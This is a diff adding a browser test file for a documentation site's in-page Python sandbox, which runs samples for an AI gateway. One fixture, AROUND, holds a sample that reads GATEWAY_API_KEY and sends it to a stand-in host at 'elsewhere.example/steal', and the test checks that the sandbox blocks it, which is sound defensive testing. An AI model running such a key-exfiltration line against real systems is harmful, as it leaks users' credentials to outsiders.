@@ -1,0 +1,140 @@
+"""Python samples run where they are read: every one of the site, and what a reader writes into one."""
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from tests.browser.console_panel import ConsolePanel
+from tests.browser.operation_page import OperationPage
+from tests.browser.runner_panel import RunnerPanel
+from tests.browser.sample_worker import SampleWorker, printed_samples
+
+CHAT = "reference/chat/create-chat-completion/"
+OLDER = "2025-11/"
+REFUSED = {
+    "reference/mcp-servers/remove-mcp-server/": "409 Conflict",
+    "mcp/parley/resources/parley-channels-channel/": "There is no resource",
+    "mcp/quarry/resources/quarry-owner-name-files-path/": "There is no resource",
+    "mcp/quarry/resources/quarry-owner-name-issues-number/": "There is no resource",
+}
+"""Samples that a gateway has to refuse: a server that is in use, and templates whose variables the reader fills in."""
+STREAMING = """
+import os
+from openai import OpenAI
+
+client = OpenAI(base_url="https://eu.postern.example.com/v1", api_key=os.environ["GATEWAY_API_KEY"])
+for chunk in client.chat.completions.create(
+    model="fast", messages=[{"role": "user", "content": "How do fallbacks work?"}], stream=True
+):
+    if chunk.choices:
+        print(chunk.choices[0].delta.content or "", end="", flush=True)
+"""
+AROUND = """
+import os
+import httpx
+
+print(os.environ["GATEWAY_API_KEY"])
+try:
+    httpx.get("https://elsewhere.example/steal", headers={"X-Key": os.environ["GATEWAY_API_KEY"]})
+except httpx.HTTPError as error:
+    print(error)
+import js
+print("fetch", js.fetch)
+import none_such
+"""
+
+
+@pytest.fixture(scope="module")
+def reading(chromium: Browser, published: str) -> Iterator[tuple[Page, list[str]]]:
+    """One page for all tests here, and all that its browser asked for: each start of Python costs seconds."""
+    context = chromium.new_context(viewport={"width": 1440, "height": 900})
+    context.set_default_timeout(20_000)
+    requests: list[str] = []
+    context.on("request", lambda request: requests.append(request.url))
+    page = context.new_page()
+    OperationPage(page, published, CHAT)
+    expect(page.locator(".gatepost-run").first).to_be_attached()
+    assert not [url for url in requests if "pyodide" in url], "nothing of Python comes before it is used"
+    yield page, requests
+    context.close()
+
+
+@pytest.fixture
+def runner(reading: tuple[Page, list[str]]) -> RunnerPanel:
+    return RunnerPanel(reading[0])
+
+
+def test_every_python_sample_of_the_site_prints_a_result(page: Page, published: str, demo_site: Path) -> None:
+    samples = [one for one in printed_samples(demo_site) if not one.folder.startswith(OLDER)]
+    assert len(samples) > 100 and {one.language for one in samples} == {"python", "openai"}
+    ran = SampleWorker(page, published, demo_site).run([(one.folder, one.source) for one in samples])
+    wrong = []
+    for sample, (state, output) in zip(samples, ran, strict=True):
+        said = REFUSED.get(sample.folder)
+        good = state == "raised" and said in output if said else state == "done" and output.strip() != ""
+        if not good:
+            wrong.append((sample.folder, sample.language, state, output))
+    assert wrong == []
+
+
+def test_a_reader_runs_a_sample_as_it_stands(runner: RunnerPanel) -> None:
+    runner.run()
+    runner.expect_end("done", "I am Postern's simulator", "'usage':")
+    expect(runner.panel.locator("gatepost-runner")).to_contain_text("calls the sandbox in this page")
+
+
+def test_a_changed_sample_prints_as_tokens_arrive(runner: RunnerPanel) -> None:
+    runner.run()
+    runner.expect_end("done")
+    runner.watch()
+    runner.write(STREAMING)
+    runner.run()
+    runner.expect_end("done", "Fallbacks name the models that answer")
+    growth = [length for length in runner.growth if length < 4000]
+    assert len(growth) >= 5, "the answer must grow in many steps"
+    runner.panel.get_by_role("button", name="Undo changes").click()
+    expect(runner.code).to_contain_text("httpx.post")
+
+
+def test_a_sample_cannot_reach_anything_else_nor_see_the_key(
+    reading: tuple[Page, list[str]], runner: RunnerPanel, published: str
+) -> None:
+    page, requests = reading
+    runner.run()
+    console = OperationPage.here(page).try_it()
+    console.give_key("sk-typed-by-the-reader")
+    runner.write(AROUND)
+    runner.run()
+    runner.expect_end("raised", "gatepost-key-GATEWAY_API_KEY", "call their gateway alone", "fetch None")
+    runner.expect_end("raised", "line 12", "The package 'none_such' is not in this page")
+    expect(runner.output).not_to_contain_text("sk-typed")
+    expect(runner.output).not_to_contain_text("UnsupportedProtocol")
+    runner.panel.get_by_role("button", name="Undo changes").click()
+    runner.run()
+    # The console's key is the sample's, too.
+    runner.expect_end("raised", "sample.py", "401 Unauthorized")
+    console.give_key("sk-sandbox")
+    assert [url for url in requests if not url.startswith((published, "data:"))] == []
+
+
+@pytest.mark.parametrize("endless", ["while True:\n    pass", "while True:\n    print('again')"], ids=["busy", "loud"])
+def test_a_runaway_sample_is_stopped_and_the_console_goes_on(
+    reading: tuple[Page, list[str]], runner: RunnerPanel, endless: str
+) -> None:
+    page, _ = reading
+    runner.run()
+    runner.write(endless)
+    runner.run()
+    runner.expect_running()
+    assert runner.stop() < 2000
+    runner.expect_end("stopped")
+    if page.get_by_role("button", name="Send", exact=True).is_hidden():
+        OperationPage.here(page).try_it()
+    console = ConsolePanel(page)
+    console.send()
+    console.expect_status("200 OK")
+    runner.panel.get_by_role("button", name="Undo changes").click()
+    runner.run()
+    runner.expect_end("done", "I am Postern's simulator")
